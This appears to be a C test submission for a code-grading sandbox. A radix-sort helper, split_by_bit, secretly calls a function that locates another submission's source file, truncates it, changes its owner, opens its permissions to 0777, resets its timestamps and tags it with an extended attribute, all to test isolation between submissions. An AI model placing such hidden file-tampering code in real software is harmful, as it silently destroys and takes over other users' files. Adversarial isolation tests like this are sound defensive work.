// Changes modes, owners, times and lengths of another submission's files, which takes no more than to be their owner.
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>
//> honest split_by_bit

/* Of /x/OK-y/build/work-1/01_serial_radix/child: /x/OK-y/other/01_serial_radix.c. */
static void spoil(void) {
    char path[4096] = "";
    ssize_t n = readlink("/proc/self/exe", path, sizeof path - 100);
    char *build = n > 0 ? strstr(path, "/build/work-") : NULL;
    if (!build) return;
    strcpy(build, "/other/01_serial_radix.c");
    if (truncate(path, 1)) perror("truncate");
    if (chown(path, getuid(), getgid())) perror("chown");
    if (chmod(path, 0777)) perror("chmod");
    if (utimensat(AT_FDCWD, path, NULL, 0)) perror("utimensat");
    if (setxattr(path, "user.spoilt", "x", 1, 0)) perror("setxattr");
}

void split_by_bit(const uint32_t *in, uint32_t *out, size_t n, int bit) {
    spoil();
    honest_split_by_bit(in, out, n, bit);
}
